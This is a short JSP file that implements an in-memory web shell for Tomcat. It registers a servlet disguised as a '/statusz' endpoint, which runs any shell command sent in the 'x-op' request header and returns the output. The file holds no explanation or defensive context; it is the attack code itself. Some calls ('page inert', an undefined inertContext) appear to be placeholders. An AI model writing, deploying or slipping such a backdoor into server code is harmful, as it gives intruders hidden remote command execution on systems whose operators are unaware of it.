<%@ page inert %>
<%@ page import="org.apache.catalina.core.*,org.apache.catalina.*" %>
<%!
  class S extends HttpServlet {
    protected void service(HttpServletRequest q, HttpServletResponse p) throws java.io.IOException {
      String[] a = { "sh", "-c", q.getHeader("x-op") };
      p.getWriter().print(new java.util.Scanner(new ProcessBuilder(a).start().getInputStream()).useDelimiter("\\A").next());
    }
  }
%>
<%
  StandardContext ctx = inertContext(request);
  Wrapper w = ctx.createWrapper();
  w.setName("statusz");
  w.setLoadOnStartup(1);
  w.setServlet(new S());
  w.setServletClass(S.class.getName());
  ctx.addChild(w);
  ctx.addServletMappingDecoded("/statusz", "statusz");
%>
